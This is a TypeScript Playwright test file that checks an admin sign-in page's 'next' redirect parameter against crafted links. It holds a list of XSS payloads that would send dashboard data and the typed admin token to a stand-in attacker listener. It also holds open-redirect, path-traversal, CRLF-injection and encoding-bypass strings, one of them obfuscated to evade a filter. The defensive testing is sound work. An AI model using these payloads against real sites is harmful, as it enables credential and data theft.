import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { itInBrowser, launchChromium } from '../support/browser.js';
import { gatewaySuite } from '../support/gateway-suite.js';

const ADMIN = 'admin-token-for-sign-in-attacks';

/** A listener standing for the attacker's server: any request that reaches it is a leak. */
async function listen(): Promise<{ server: Server; origin: string; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

/**
 * Query strings of crafted /admin/sign-in links. Each payload, if it ran, would raise a dialog, set a global, and send
 * the dashboard's data (read with the admin's cookie) and the token typed into the form to the attacker's listener;
 * the path payloads would send the browser elsewhere after sign-in.
 */
function craftedQueries(evil: string): string[] {
  const host = evil.slice('http://'.length);
  // The attacker's URL is built at run time: a literal `//` in the link would be caught by the old check.
  const there = `('http:'+'/'.repeat(2)+'${host}')`;
  const steal = `window.__pwned=1;alert(1);fetch('/admin/queues/api/queues').then(r=>r.text()).then(t=>fetch(${there}+'/steal',{method:'POST',mode:'no-cors',body:t}));document.addEventListener('submit',()=>fetch(${there}+'/token?'+document.getElementById('token').value),true)`;
  const values = [
    `/admin/queues</script><script>${steal}</script>`,
    `/admin/queues\n</script><script>${steal}</script>`,
    `/admin/queues\u2028</script><script>${steal}</script>`,
    `/admin/queues"><script>${steal}</script>`,
    `/admin/queues' onmouseover='${steal}`,
    `/admin/queues"><img src=x onerror="${steal}">`,
    `javascript:${steal}`,
    ` JaVaScRiPt:${steal}`,
    `/admin/queues/%2e%2e/%2e%2e/docs`,
    `/admin/queues/../../docs`,
    `//${host}/evil`,
    `/\\${host}/evil`,
    `\\/${host}/evil`,
    `/\t/${host}/evil`,
    `/admin/queues\r\nLocation: ${evil}/evil`,
    `${evil}/evil`,
    `/admin/queues@${host}/evil`,
  ];
  return [
    ...values.map((value) => `next=${encodeURIComponent(value)}`),
    `next=%2F%2F${host}%2Fevil`,
    `next=%252F%252F${host}%252Fevil`,
    `next=%25252F%25252F${host}`,
    `next=/admin/queues%0a%3C/script%3E%3Cscript%3E${encodeURIComponent(steal)}%3C/script%3E`,
    `next=/admin/queues&next=${encodeURIComponent(`//${host}/evil`)}`,
    `next=/admin/queues&x=${encodeURIComponent(`</script><script>${steal}</script>`)}`,
  ];
}

describe('sign-in page: crafted links run no script and lead only to the dashboard', () => {
  const suite = gatewaySuite({ ADMIN_TOKEN: ADMIN }, { worker: false });
  let browser: Browser | undefined;
  let evil: Awaited<ReturnType<typeof listen>>;
  beforeAll(async () => {
    evil = await listen();
  });
  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => evil?.server.close(resolve));
  });

  /** A browser context watching for dialogs and the payload's global; signed in with a session cookie when asked. */
  async function context(signedIn: boolean): Promise<{ context: BrowserContext; dialogs: string[] }> {
    const context = await browser!.newContext();
    const dialogs: string[] = [];
    context.on('page', (page) => page.on('dialog', (dialog) => (dialogs.push(dialog.message()), void dialog.dismiss())));
    if (signedIn) {
      const res = await fetch(`${suite.harness!.apiUrl}/admin/sign-in`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ token: ADMIN }),
      });
      const [name, value] = res.headers.get('set-cookie')!.split(';')[0].split('=');
      await context.addCookies([{ name, value, url: `${suite.harness!.apiUrl}/admin` }]);
    }
    return { context, dialogs };
  }

  /** Follows the link; if it is the sign-in page, signs in. Returns where the browser ended and what it saw. */
  async function follow(page: Page, query: string): Promise<{ status: number; landed?: string; pwned: unknown }> {
    const url = suite.harness!.apiUrl;
    const res = await page.goto(`${url}/admin/sign-in?${query}`);
    await page.waitForLoadState('networkidle');
    const pwned = await page.evaluate('window.__pwned');
    if (res!.status() !== 200) return { status: res!.status(), pwned };
    await page.fill('#token', ADMIN);
    await page.click('button[type=submit]');
    // A page whose script the payload broke never leaves: that is not a pass by itself, the checks below decide.
    await page.waitForURL((u) => u.pathname !== '/admin/sign-in', { timeout: 10_000 }).catch(() => undefined);
    await page.waitForLoadState('networkidle');
    return { status: 200, landed: page.url(), pwned };
  }

  itInBrowser.each([false, true])(
    'signed in already: %s',
    async (signedIn) => {
      browser ??= await launchChromium();
      evil.seen.length = 0;
      const { context: ctx, dialogs } = await context(signedIn);
      const outcomes: Array<{ query: string; status: number; landed?: string; pwned: unknown }> = [];
      for (const query of craftedQueries(evil.origin)) {
        const page = await ctx.newPage();
        outcomes.push({ query, ...(await follow(page, query)) });
        await page.close();
      }
      await ctx.close();
      expect(evil.seen).toEqual([]);
      expect(dialogs).toEqual([]);
      expect(outcomes.filter((o) => o.pwned !== undefined)).toEqual([]);
      // Refused (400, naming `next`), or signed in and on the dashboard: never a 500, never anywhere else.
      expect(outcomes.filter((o) => o.status !== 400 && o.status !== 200)).toEqual([]);
      const dashboard = `${suite.harness.apiUrl}/admin/queues`;
      expect(
        outcomes.filter(
          (o) => o.landed !== undefined && o.landed !== dashboard && !o.landed.startsWith(`${dashboard}/`) && !o.landed.startsWith(`${dashboard}?`),
        ),
      ).toEqual([]);
    },
    180_000,
  );

  itInBrowser(
    'refuses a bad next with 400 naming it, and sends a good one back to the dashboard page it names',
    async () => {
      const url = suite.harness.apiUrl;
      const bad = await fetch(`${url}/admin/sign-in?next=${encodeURIComponent('//evil.example/x')}`);
      expect(bad.status).toBe(400);
      expect(await bad.json()).toMatchObject({ code: 'VALIDATION_FAILED', errors: [{ path: 'next', message: expect.stringContaining('/admin/queues') }] });
      const page = await fetch(`${url}/admin/sign-in?next=${encodeURIComponent('/admin/queues"><b>x</b>')}`);
      expect(page.status).toBe(400);
      browser ??= await launchChromium();
      const { context: ctx } = await context(false);
      const tab = await ctx.newPage();
      await tab.goto(`${url}/admin/queues/queue/ai-log-upload?status=failed`);
      expect(new URL(tab.url()).searchParams.get('next')).toBe('/admin/queues/queue/ai-log-upload?status=failed');
      expect(await tab.getAttribute('#sign-in', 'data-next')).toBe('/admin/queues/queue/ai-log-upload?status=failed');
      await tab.fill('#token', ADMIN);
      await tab.click('button[type=submit]');
      await tab.waitForURL(`${url}/admin/queues/queue/ai-log-upload?status=failed`);
      await ctx.close();
    },
    60_000,
  );
});
